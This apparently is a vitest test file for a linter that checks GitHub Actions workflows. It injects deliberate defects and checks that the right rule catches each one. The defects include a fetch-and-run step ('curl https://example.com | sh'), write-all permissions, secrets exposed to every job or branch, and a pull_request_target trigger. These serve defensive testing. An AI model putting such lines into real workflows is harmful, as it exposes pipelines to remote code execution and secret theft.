/** The committed workflows keep every rule, and every change of one of their values breaks one. */
import { describe, expect, test } from "vitest";
import { findingsOf } from "../core/rule.ts";
import { committedFiles } from "../../testing/compiled-files.ts";
import { type Path, changed, leavesOf } from "../../testing/leaves.ts";
import { actions, pinned } from "../../language/actions.ts";
import { conditions, emptyMatrix, gate, results, secretsOnMain } from "./conditions.ts";
import { keys, matrixType } from "./jobs.ts";
import { findingsInWorkflows, jobRules, rulesOfAll, workflowRules, workflowsIn } from "./rules.ts";
import { steps } from "./steps.ts";
import { everyStage, handedOn, oneAtATime, ownNames, pins, pinsIn } from "./together.ts";
import { whole } from "./whole.ts";
import { type Workflow, jobsOf, readWorkflow } from "./workflow.ts";

const committed = workflowsIn(committedFiles);
const pathOf = (name: string): string => `.github/workflows/${name}.yml`;
/** The committed workflows, one of them with another text. */
const withOther = (path: string, workflow: Workflow): readonly Workflow[] =>
  committed.map((one) => (one.path === path ? workflow : one));

test("the committed workflows keep every rule", () => expect(findingsInWorkflows(committed)).toEqual([]));

test("the version beside each pin is the one of the table of actions", () => {
  const known = Object.values(actions).map((action) => `${pinned(action)} ${action.version}`);
  expect(known).toEqual(
    expect.arrayContaining(pinsIn(committed).map(({ action, commit, version }) => `${action}@${commit} ${version}`)),
  );
});

/** Texts for the reader of GitHub's page; events that a workflow may do without; an input that the tests of weekly require. */
const free =
  /^(?:name|on\.workflow_dispatch\.inputs\.\w+\.description) = |^on\.\w+(?:\.\d+\.cron|\.branches\.\d+)? = undefined$|\.env\.FRESH = undefined$/u;

/** The rules of the job first, since most changes break one of those, and they take the least time. */
function isFound(workflow: Workflow, [part, id]: Path): boolean {
  const jobs = jobsOf(workflow).filter((job) => part === "jobs" && job.id === id);
  return (
    jobs.some((job) => findingsOf(jobRules, job).length > 0) ||
    findingsInWorkflows(withOther(workflow.path, workflow)).length > 0
  );
}

test.each(committed)("$path: each value that is removed or replaced is a finding", (workflow) => {
  const unnoticed = leavesOf(workflow.keys).flatMap((path) =>
    [undefined, "another"]
      .filter((to) => !isFound({ ...workflow, keys: changed(workflow.keys, path, to) }, path))
      .map((to) => `${path.join(".")} = ${to}`),
  );
  expect(unnoticed.filter((one) => !free.test(one))).toEqual([]);
});

type Named = { readonly name: string };
/** A mistake, the workflow, the text that it replaces, and the rule that has to find it. */
const defects: readonly (readonly [why: string, file: string, from: string, to: string, rule: Named])[] = [
  ["a failure that is swallowed", "ci-cd", "stage -- check", "stage -- check || true", steps],
  [
    "a step that continues on error",
    "ci-cd",
    "        run: npm run --silent stage -- check",
    "        continue-on-error: true\n        run: npm run --silent stage -- check",
    steps,
  ],
  [
    "a job that continues on error",
    "ci-cd",
    "    timeout-minutes: ",
    "    continue-on-error: true\n    timeout-minutes: ",
    keys,
  ],
  [
    "another shell for a stage",
    "ci-cd",
    "        run: npm run --silent stage -- check",
    "        shell: sh\n        run: npm run --silent stage -- check",
    steps,
  ],
  ["the gate in sh", "ci-cd", "        shell: bash", "        shell: sh", gate],
  ["a gate whose comparison is swallowed", "ci-cd", '<(echo "$ACTUAL")', '<(echo "$ACTUAL") || true', gate],
  [
    "a gate that accepts a skipped job",
    "ci-cd",
    "            check success",
    "            check ${{ needs.check.result }}",
    gate,
  ],
  ["a gate that forgets a job", "ci-cd", "            deploy ${{ needs.deploy.result }}\n", "", gate],
  ["a gate that runs on success only", "ci-cd", "    if: always()", "    if: success()", gate],
  ["no history for plan", "ci-cd", "          fetch-depth: 0\n", "", steps],
  ["the token left in the work tree", "ci-cd", "persist-credentials: false", "persist-credentials: true", steps],
  [
    "another file of Node's version",
    "ci-cd",
    "node-version-file: .node-version",
    "node-version-file: package.json",
    steps,
  ],
  ["all permissions", "ci-cd", "\npermissions: {}", "\npermissions: write-all", whole],
  ["a permission more", "ci-cd", "      contents: read #", "      id-token: write\n      contents: read #", keys],
  ["older runs that go on", "ci-cd", "  cancel-in-progress: true", "  cancel-in-progress: false", whole],
  [
    "runs of main that cancel each other",
    "ci-cd",
    "github.event_name == 'pull_request' && github.ref || github.run_id",
    "github.ref",
    whole,
  ],
  [
    "runs that cancel each other",
    "redeploy",
    "\n  cancel-in-progress: false\n\njobs",
    "\n  cancel-in-progress: true\n\njobs",
    whole,
  ],
  ["an optional input that is required", "redeploy", "required: false", "required: true", whole],
  ["a required input that is optional", "redeploy", "required: true", "required: false", whole],
  [
    "an input read on push",
    "redeploy",
    "  workflow_dispatch:\n",
    "  push:\n    branches:\n      - main\n  workflow_dispatch:\n",
    steps,
  ],
  ["one leg at a time", "ci-cd", "      fail-fast: false", "      max-parallel: 1\n      fail-fast: false", keys],
  ["a matrix that fails fast", "ci-cd", "fail-fast: false", "fail-fast: true", keys],
  ["a matrix over an empty list", "ci-cd", "    if: needs.plan.outputs.build != '[]'\n", "", emptyMatrix],
  [
    "a matrix over what changed",
    "weekly",
    "fromJSON(needs.plan.outputs.build)",
    "fromJSON(needs.plan.outputs.tag)",
    matrixType,
  ],
  ["a download of everything", "ci-cd", "          pattern: oci-*\n", "", steps],
  ["a download of something else", "ci-cd", "pattern: oci-*", "pattern: images-*", handedOn],
  ["a download to another folder", "ci-cd", "          path: .pipeline/oci\n", "          path: images\n", handedOn],
  [
    "a download by a job that does not wait",
    "weekly",
    "      - plan\n      - build\n    runs-on",
    "      - plan\n    runs-on",
    handedOn,
  ],
  ["an upload without its leg", "ci-cd", "name: oci-${{ matrix.app }}", "name: oci", ownNames],
  ["an upload from another folder", "ci-cd", "path: .pipeline/oci/oci-${{ matrix.app }}", "path: oci", steps],
  ["hidden files left out", "ci-cd", "include-hidden-files: true", "include-hidden-files: false", steps],
  ["an upload kept for 90 days", "ci-cd", "retention-days: 14", "retention-days: 90", steps],
  ["an upload kept for a day", "ci-cd", "retention-days: 14", "retention-days: 1", steps],
  ["a product that may be missing", "ci-cd", "if-no-files-found: error", "if-no-files-found: ignore", steps],
  ["reports of green stages only", "ci-cd", "        if: ${{ !cancelled() }}\n", "", steps],
  [
    "deploy without its concurrency group",
    "ci-cd",
    "      group: deploy",
    "      group: deploy-${{ github.run_id }}",
    oneAtATime,
  ],
  ["redeploy in a group of its own", "redeploy", "      group: deploy", "      group: redeploy", oneAtATime],
  ["a waiting deployment that is dropped", "redeploy", "      queue: max\n", "", keys],
  [
    "a deployment that is cancelled",
    "redeploy",
    "      cancel-in-progress: false\n      queue",
    "      cancel-in-progress: true\n      queue",
    keys,
  ],
  ["a job without its environment", "ci-cd", "    environment: production\n", "", keys],
  ["a thousand minutes", "ci-cd", "timeout-minutes: ", "timeout-minutes: 1000", keys],
  ["no limit of time", "ci-cd", "    timeout-minutes: ", "    # ", keys],
  ["an output that is lost", "ci-cd", "      current: ${{ steps.stage.outputs.current }}\n", "", keys],
  ["an output of another step", "ci-cd", "steps.stage.outputs.tag", "steps.stage.outputs.tags", keys],
  [
    "a secret for a stage without one",
    "ci-cd",
    "          APP: ${{ matrix.app }}",
    "          APP: ${{ matrix.app }}\n          TOKEN: ${{ secrets.DEPLOY_SSH_KEY }}",
    steps,
  ],
  [
    "a secret for every step",
    "ci-cd",
    "    timeout-minutes: ",
    "    env:\n      TOKEN: ${{ secrets.DEPLOY_SSH_KEY }}\n    timeout-minutes: ",
    keys,
  ],
  ["a secret for every job", "ci-cd", "\njobs:", "\nenv:\n  TOKEN: ${{ secrets.DEPLOY_SSH_KEY }}\n\njobs:", whole],
  ["another secret under a name", "ci-cd", "secrets.DOCKER_HUB_ACCESS_TOKEN", "secrets.DOCKER_HUB_USERNAME", steps],
  ["an input that is missing", "ci-cd", "          TAG: ${{ needs.plan.outputs.tag }}\n", "", steps],
  [
    "an input of another type",
    "ci-cd",
    "CARRIED: ${{ needs.plan.outputs.carried }}",
    "CARRIED: ${{ needs.plan.outputs.changed }}",
    steps,
  ],
  ["images that were not tested", "ci-cd", "needs.integrate.outputs.tested ||", "needs.plan.outputs.carried ||", steps],
  ["secrets on every branch", "ci-cd", " && github.ref == 'refs/heads/main'", "", secretsOnMain],
  [
    "secrets on a branch that begins with main",
    "redeploy",
    "if: github.ref == 'refs/heads/main'",
    "if: startsWith(github.ref, 'refs/heads/main')",
    secretsOnMain,
  ],
  ["a release that waits for no check", "ci-cd", "      - plan\n      - check\n", "      - plan\n", secretsOnMain],
  ["a release after a failed check", "ci-cd", " && needs.check.result == 'success'", "", results],
  [
    "a comparison with a result that does not exist",
    "ci-cd",
    "needs.check.result == 'success'",
    "needs.check.result == 'succeeded'",
    conditions,
  ],
  [
    "a condition by hand",
    "ci-cd",
    "needs.plan.outputs.publish == 'true'",
    "contains(github.event.head_commit.message, 'release')",
    conditions,
  ],
  [
    "a flag as a condition, which is true as the text false, too",
    "ci-cd",
    "needs.plan.outputs.publish == 'true'",
    "needs.plan.outputs.publish",
    conditions,
  ],
  [
    "a trigger that runs the code of strangers with secrets",
    "ci-cd",
    "  pull_request:\n",
    "  pull_request_target:\n",
    whole,
  ],
  [
    "pull requests to every branch",
    "ci-cd",
    "  pull_request:\n    branches:\n      - main\n",
    "  pull_request: {}\n",
    whole,
  ],
  ["another runner", "ci-cd", "runs-on: ubuntu-24.04", "runs-on: ubuntu-latest", keys],
  ["a container around a job", "ci-cd", "    timeout-minutes: ", "    container: node:24\n    timeout-minutes: ", keys],
  ["a service beside a job", "ci-cd", "    timeout-minutes: ", "    services: {}\n    timeout-minutes: ", keys],
  [
    "a tag in place of a commit",
    "ci-cd",
    pinned(actions.checkout),
    `actions/checkout@${actions.checkout.version}`,
    pins,
  ],
  ["a version that is not the one of its commit", "ci-cd", `# ${actions.checkout.version}`, "# v0.0.1", pins],
  ["a pin without a version", "ci-cd", ` # ${actions.checkout.version}`, "", pins],
  ["an action of a stranger", "ci-cd", "uses: actions/checkout@", "uses: stranger/checkout@", steps],
  [
    "a step more",
    "ci-cd",
    "      - name: Check\n",
    "      - run: curl https://example.com | sh\n      - name: Check\n",
    steps,
  ],
  ["a cache that a merge group fills", "ci-cd", "        if: ${{ github.event_name != 'merge_group' }}\n", "", steps],
  [
    "a cache that the legs share",
    "ci-cd",
    "key: layers/${{ matrix.app }}/${{ github.sha }}",
    "key: layers/${{ github.sha }}",
    steps,
  ],
  ["a workflow without jobs", "weekly", "\njobs:", "\nold:", whole],
  ["a workflow that nothing starts", "weekly", "on:\n", "of:\n", whole],
  ["a job that is no stage", "weekly", "  check:\n    name: Check", "  chek:\n    name: Check", whole],
  ["no gate", "weekly", "  gate:\n", "  gated:\n", gate],
  ["two workflows of one name", "weekly", "name: Prove everything anew", "name: CI/CD", everyStage],
  ["two jobs of one name", "weekly", "    name: Check", "    name: Plan", everyStage],
  ["a stage that no workflow runs", "redeploy", "  redeploy:\n    name", "  rdeploy:\n    name", everyStage],
];

describe("a mistake is found by its rule", () => {
  test.each(defects)("%s", (_, file, from, to, rule) => {
    const path = pathOf(file);
    const text = committedFiles.get(path)!;
    expect(text).toContain(from);
    const other = readWorkflow(path, text.replace(from, to.replaceAll("$", "$$$$")));
    expect(findingsInWorkflows(withOther(path, other)).map((found) => found.rule)).toContain(rule.name);
  });

  test("a workflow that was written by hand beside ours", () => {
    const own = readWorkflow(pathOf("mine"), "name: Mine\non: pull_request_target\njobs:\n  a:\n    runs-on: x\n");
    const rules = findingsInWorkflows([...committed, own]).map(({ rule }) => rule);
    expect(rules).toContain(whole.name);
    expect(findingsInWorkflows([...committed, readWorkflow(pathOf("empty"), "")])).not.toEqual([]);
  });
});

test("each rule says why it holds", () => {
  for (const { name, reason } of [...jobRules, ...workflowRules, ...rulesOfAll])
    expect([name, reason.length > 40]).toEqual([name, true]);
});
